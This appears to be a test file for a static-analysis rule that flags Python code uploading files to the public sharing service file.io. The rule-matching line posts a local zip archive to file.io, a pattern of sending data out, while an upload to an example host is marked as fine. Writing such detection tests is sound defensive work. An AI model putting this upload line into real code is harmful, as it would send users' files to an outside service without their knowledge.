import requests
# ruleid: file_sharing_upload
requests.post('https://file.io', files={'file': open('d.zip', 'rb')})
# ok: file_sharing_upload
requests.post('https://upload.example.org/files', files={'file': open('d.zip', 'rb')})
